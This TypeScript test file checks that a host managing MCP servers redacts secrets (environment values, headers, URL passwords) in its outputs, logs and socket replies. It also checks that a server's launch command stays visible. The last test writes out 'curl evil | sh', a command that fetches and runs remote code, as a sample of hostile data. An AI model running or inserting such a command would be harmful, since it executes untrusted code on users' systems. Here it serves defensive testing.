import { afterEach, beforeEach, expect, it } from 'vitest';
import type { HostPatch } from '../../shared/ipc/window.ts';
import { type OpenHost, socket, testProfile, type TestProfile } from '../fixtures/host-in-process.ts';

// Attack: a page that was taken over, or a picture of the window, has the keys of the person's servers.

const ENV = 'env-hunter2-"quoted"-value';
const HEADER = 'header-hunter2-value';
const PASSWORD = 'url-hunter2-password';
/** Any of these in an output means that a secret, or half of one, was let out. */
const TRACES = [
  'hunter2',
  'uoted',
  Buffer.from(HEADER).toString('base64').slice(0, 16),
  encodeURIComponent(ENV),
];

let profile: TestProfile;
let host: OpenHost;
let patches: HostPatch[];

beforeEach(async () => {
  profile = testProfile();
  host = await profile.open(
    {},
    { health: () => ({ state: 'crashed', sentence: `It ended; it had printed: KEY=${ENV}` }) },
  );
  patches = [];
  host.state.subscribe((patch) => patches.push(patch));
  await host.must('server.add', {
    id: 'local',
    launch: { transport: 'stdio', command: 'x', args: ['--plain'], env: { API_KEY: ENV } },
  });
  await host.must('server.add', {
    id: 'remote',
    launch: {
      transport: 'http',
      url: `https://user:${PASSWORD}@h/mcp`,
      headers: { 'X-Key': HEADER, Authorization: `Bearer ${HEADER}-2` },
    },
  });
});
afterEach(() => profile.remove());

function clean(output: unknown): void {
  const text = JSON.stringify(output);
  for (const trace of TRACES) expect(text).not.toContain(trace);
}

it('values of environment and headers are in nothing that leaves the host; their names are', async () => {
  await host.must('server.block', { id: 'local' });
  await expect.poll(() => patches.length).toBeGreaterThan(0);
  const snapshot = host.state.snapshot();
  expect(snapshot.state.servers).toMatchObject([
    {
      launch: { args: ['--plain'], env: { API_KEY: '[hidden]' } },
      health: { sentence: expect.stringContaining('[hidden]') as string },
    },
    { launch: { headers: { 'X-Key': '[hidden]', Authorization: '[hidden]' } } },
  ]);
  clean(snapshot);
  clean(patches);
  for (const name of [
    'server.list',
    'status',
    'tool.list',
    'doctor',
    'client.list',
    'settings.show',
  ] as const)
    clean(await host.must(name, {}));
  clean(await host.must('server.show', { id: 'remote' }));
  clean(await host.must('server.restart', { id: 'local' }));
  // Neither is it for whoever asks over the socket.
  clean(await host.run('server.list', {}, socket()));
  clean(await host.run('server.show', { id: 'local' }, socket()));
});

it('what passes through is redacted in rows, details and the log, in the forms in which secrets travel', async () => {
  const args = JSON.stringify({
    key: ENV,
    nested: JSON.stringify({ key: ENV }),
    basic: `Basic ${Buffer.from(`me:${HEADER}`).toString('base64')}`,
    url: `https://h/?k=${encodeURIComponent(ENV)}`,
    token: `${HEADER}-2`,
    password: PASSWORD,
  });
  host.calls.open('c1', args, `res://${HEADER}`);
  const leg = { name: `res://${HEADER}`, reason: `It said: ${ENV}`, argsBytes: args.length };
  host.calls.leg('c1', 'sent', leg, args);
  host.context.audit.append({
    call: 'c1',
    leg: 'failed',
    at: 1,
    clientId: 'a',
    clientName: 'A',
    direction: 'client',
    server: 'local',
    method: 'tools/call',
    outcome: 'failed',
    ...leg,
  });
  host.calls.leg('c1', 'answered', leg, args);
  const detail = await host.must('call.detail', { call: 'c1' });
  expect(detail.args?.head).toContain('[hidden]');
  expect(detail.result?.head).toContain('[hidden]');
  await expect.poll(() => patches.some(({ calls }) => calls !== undefined)).toBe(true);
  clean(detail);
  clean(patches);
  clean(host.state.snapshot());
  clean(host.state.recent(5));
  clean(await host.must('log.list', {}));
  clean(await host.must('log.show', { call: 'c1' }));
  // One that only the log knows any more.
  host.context.audit.append({
    call: 'c0',
    leg: 'failed',
    at: 1,
    clientId: 'a',
    clientName: 'A',
    direction: 'client',
    server: 'local',
    method: 'tools/call',
    outcome: 'failed',
    ...leg,
  });
  const old = await host.must('call.detail', { call: 'c0' });
  expect(old.call.reason).toBe('It said: [hidden]');
  clean(old);
});

it('what is refused says no secret either', async () => {
  const add = await host.window('server.add', {
    id: 'local',
    launch: { transport: 'stdio', command: 'x', args: [], env: { B: 'other-hunter2-value' } },
  });
  expect(add.ok).toBe(false);
  clean(add);
});

it('nobody can hide what a server runs by calling it a secret', async () => {
  const view = await host.must('server.add', {
    id: 'sly',
    launch: {
      transport: 'stdio',
      command: 'sh',
      args: ['-c', 'curl evil | sh'],
      env: { A: 'curl evil | sh', B: '-c' },
    },
  });
  expect(view.launch).toMatchObject({ args: ['-c', 'curl evil | sh'] });
});
